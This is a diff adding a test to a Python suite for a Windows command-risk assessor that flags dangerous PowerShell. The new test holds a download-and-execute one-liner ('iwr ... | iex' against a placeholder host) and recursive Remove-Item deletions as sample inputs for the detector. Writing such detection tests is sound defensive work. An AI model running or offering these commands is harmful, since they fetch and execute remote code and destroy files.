@@ -127,3 +127,10 @@ def test_mail_forwarding_judged_against_the_company_domains() -> None:
     assert "powershell.mail_forward_outside" in found
     inside = cmd.replace("partner.example", "acme.example")
     assert not assess_windows(inside, ("acme.example",)).findings
+
+
+def test_one_finding_per_command_read_twice() -> None:
+    found = assess_windows('pwsh -c "iwr https://get.example.io/setup.ps1 | iex"').findings
+    assert [f.rule for f in found] == ["powershell.download_exec"]
+    two = assess_windows("Remove-Item -Recurse C:\\a; Remove-Item -Recurse C:\\b").findings
+    assert len(two) == 2
